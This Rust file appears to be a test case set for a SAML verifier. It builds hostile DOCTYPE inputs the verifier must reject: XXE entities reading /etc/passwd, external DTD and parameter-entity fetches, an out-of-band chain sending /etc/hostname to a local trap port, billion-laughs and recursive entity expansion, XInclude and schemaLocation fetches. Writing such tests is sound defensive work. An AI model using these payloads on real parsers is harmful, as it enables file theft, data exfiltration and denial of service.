//! S25: a document type of any kind. Nothing that it asks for may be asked.

use super::{Hostile, Stage};
use crate::saml::forge::message::{alice, alice_by_response};
use crate::saml::forge::{Given, edit};

const WHY: &str = "no message has a document type: entities are files, servers and bombs";

fn with(name: &str, doctype: fn(u16) -> String) -> Hostile {
    Hostile::new("S25", Stage::Form, name, WHY, move |given| format!("{}{}", doctype(given.trap), alice(given)))
}

fn used(name: &str, doctype: fn(u16) -> String) -> Hostile {
    Hostile::new("S25", Stage::Form, name, WHY, move |given: &Given| {
        let text = edit(&alice_by_response(given), ">alice of the works<", ">&e;<");
        format!("{}{text}", doctype(given.trap))
    })
}

pub(super) fn all() -> Vec<Hostile> {
    vec![
        with("an empty document type", |_| "<!DOCTYPE samlp:Response>".to_owned()),
        with("one behind the XML declaration", |_| "<?xml version=\"1.0\"?>\n<!DOCTYPE Response [ ]>".to_owned()),
        with("one in small letters", |_| "<!doctype samlp:Response>".to_owned()),
        with("one behind blanks", |_| "\n\n  <!DOCTYPE samlp:Response [<!ENTITY e \"x\">]>".to_owned()),
        used("an entity of its own", |_| "<!DOCTYPE r [<!ENTITY e \"alice of the works\">]>".to_owned()),
        used("an entity that is a file", |_| "<!DOCTYPE r [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>".to_owned()),
        used("an entity that is on a server", |port| {
            format!("<!DOCTYPE r [<!ENTITY e SYSTEM \"http://127.0.0.1:{port}/e\">]>")
        }),
        with("a document type that is on a server", |port| {
            format!("<!DOCTYPE r SYSTEM \"http://127.0.0.1:{port}/dtd\">")
        }),
        with("a public one that is on a server", |port| {
            format!("<!DOCTYPE r PUBLIC \"-//OASIS//SAML\" \"http://127.0.0.1:{port}/dtd\">")
        }),
        with("a parameter entity that is on a server", |port| {
            format!("<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://127.0.0.1:{port}/p\"> %p;]>")
        }),
        with("a parameter entity that sends a file on", |port| {
            format!(
                "<!DOCTYPE r [<!ENTITY % f SYSTEM \"file:///etc/hostname\"><!ENTITY % d \"<!ENTITY &#37; s SYSTEM \
                 'http://127.0.0.1:{port}/?%f;'>\">%d;%s;]>"
            )
        }),
        used("a billion laughs", |_| {
            let mut all = "<!DOCTYPE r [<!ENTITY e0 \"ha\">".to_owned();
            for n in 1..10 {
                all.push_str(&format!("<!ENTITY e{n} \"{}\">", format!("&e{};", n - 1).repeat(10)));
            }
            format!("{all}<!ENTITY e \"&e9;\">]>")
        }),
        used("an entity of 1 MB", |_| format!("<!DOCTYPE r [<!ENTITY e \"{}\">]>", "x".repeat(1 << 20))),
        used("an entity that is made of itself", |_| {
            "<!DOCTYPE r [<!ENTITY e \"&f;\"><!ENTITY f \"&e;\">]>".to_owned()
        }),
        with("an attribute that is made an id", |_| {
            "<!DOCTYPE r [<!ATTLIST samlp:Response Destination ID #IMPLIED>]>".to_owned()
        }),
        with("an attribute that comes by itself", |_| {
            "<!DOCTYPE r [<!ATTLIST saml:NameID xml:lang CDATA \"de\">]>".to_owned()
        }),
        Hostile::new("S25", Stage::Form, "an entity that nobody has declared", WHY, |given| {
            edit(&alice(given), ">alice of the works<", ">&e;<")
        }),
        Hostile::new("S25", Stage::Form, "another document that is included", WHY, |given| {
            let include = format!(
                "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"http://127.0.0.1:{}/x\"></xi:include>",
                given.trap
            );
            edit(&alice(given), "<samlp:Status>", &format!("{include}<samlp:Status>"))
        })
        .or("alice"),
        Hostile::new("S25", Stage::Form, "a schema that is on a server", WHY, |given| {
            let location = format!(
                "<samlp:Response xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" \
                 xsi:schemaLocation=\"urn:oasis:names:tc:SAML:2.0:protocol http://127.0.0.1:{}/xsd\" ",
                given.trap
            );
            edit(&alice(given), "<samlp:Response ", &location)
        })
        .or("alice"),
    ]
}
